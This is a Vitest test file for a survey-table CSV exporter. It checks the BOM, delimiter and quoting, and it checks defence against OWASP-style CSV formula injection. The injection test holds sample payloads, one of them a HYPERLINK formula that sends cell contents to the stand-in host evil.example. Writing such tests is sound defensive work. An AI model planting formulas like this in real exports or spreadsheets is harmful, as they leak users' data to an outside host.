import { describe, expect, it } from 'vitest'
import { surveyTableCsv } from '../src/lib/view/csv.ts'

describe('CSV', () => {
  it('exports a survey table with BOM, header and rows as printed', () => {
    const csv = surveyTableCsv({
      rows: [
        { label: 'Terughoudend zijn met psychiatrische labels', n: 213, percent: 34 },
        { label: 'Anders; namelijk', n: 53, percent: 8 },
      ],
    })
    expect(csv).toBe(
      '\uFEFFantwoord;n;percentage\r\nTerughoudend zijn met psychiatrische labels;213;34\r\n"Anders; namelijk";53;8\r\n',
    )
  })
})

describe('CSV formula injection (OWASP)', () => {
  it('neutralises evidence labels in the survey-table download', () => {
    // The schema trims labels, so a leading tab or CR never hides the "=" here.
    const labels = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', '+1+1', '-2+3', '@SUM(1+1)']
    const csv = surveyTableCsv({ rows: labels.map((label, i) => ({ label, n: i, percent: i })) })
    const cells = csv.replace('\uFEFF', '').split('\r\n').slice(1, -1).map((line) => line.replace(/^"/, '').charAt(0))
    expect(cells).toEqual(["'", "'", "'", "'"])
  })
})
